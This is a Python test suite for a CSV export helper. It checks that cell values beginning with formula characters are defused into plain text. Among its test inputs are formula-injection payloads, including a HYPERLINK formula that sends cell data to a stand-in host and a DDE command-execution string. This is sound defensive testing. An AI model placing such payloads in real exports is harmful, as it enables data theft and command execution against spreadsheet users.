"""No cell is a formula, whatever an offer calls itself, and nothing else is touched."""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.export.cells import cell, defused

STARTERS = "=+-@\uff1d\uff0b\uff0d\uff20"
BLANKS = ' "\t\r\n\v\f\u00a0\u3000'


def starts_formula(text: str) -> bool:
    stripped = text.lstrip(BLANKS)
    return stripped[:1] != "" and stripped[0] in STARTERS


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"look")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "  =1+1",
        '"=1+1',
        "\t=1",
        "\r=1",
        "\n=1",
        "\u3000\uff1dSUM(A1)",
        "\uff20SUM(A1)",
        "bag;=1+1",
        'bag; "=1+1',
        "bag\n=1+1",
        "bag\t\t+1",
    ],
)
def test_a_formula_is_shown_as_text(text: str) -> None:
    safe = defused(text)
    assert safe.replace("'", "") == text.replace("'", "")
    for piece in (safe, *safe.split(";"), *safe.splitlines(), *safe.split("\t")):
        assert not starts_formula(piece)


@pytest.mark.parametrize(
    "text",
    ["", "Gucci bag", "T-shirt", "50% off - today", "a = b", "古驰 单肩包", "'=1", "me@shop.example", "3;4", "a,-b"],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@given(st.text(alphabet=st.sampled_from(STARTERS + BLANKS + "';,|aé"), max_size=30))
def test_whatever_is_cut_out_of_a_cell_is_no_formula(text: str) -> None:
    safe = defused(text)
    assert safe[:1] not in {"\t", "\r", "\n"}
    cuts = [safe]
    for separator in ";\t\r\n":
        cuts = [piece for cut in cuts for piece in cut.split(separator)]
    assert not any(starts_formula(piece) for piece in cuts)
    assert len(safe) - safe.count("'") == len(text) - text.count("'")
    assert defused(safe) == safe


@pytest.mark.parametrize("text", ["\n" * 300_000, "\n=" * 150_000, "= " * 150_000, ' "' * 150_000 + "="])
def test_the_time_grows_with_the_text_alone(text: str) -> None:
    began = process_time()
    defused(text)
    assert process_time() - began < 2


def test_a_cell_survives_the_file() -> None:
    texts = ['a "quoted", bag', "two\nlines", "semi;colon", "'=1"]
    file = io.StringIO()
    csv.writer(file).writerow([cell(text) for text in texts])
    (read,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert read == texts


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        (True, "TRUE"),
        (False, "FALSE"),
        (Decimal("1234.50"), "1234.50"),
        (Decimal("1E+3"), "1000"),
        (Decimal(-5), "-5"),
        (7, 7),
        (42.7, 42.7),
        (["red", "=1"], "red | =1"),
        (["=1", "red"], "'=1 | red"),
        ([], ""),
        (datetime(2026, 3, 1, 14, 0, 5, 120_000, timezone(timedelta(hours=2))), "2026-03-01 12:00:05"),
        (datetime(2026, 3, 1, tzinfo=UTC), "2026-03-01 00:00:00"),
    ],
)
def test_a_value_as_a_spreadsheet_reads_it(value: object, shown: object) -> None:
    assert cell(value) == shown  # type: ignore[arg-type]  # every kind of value
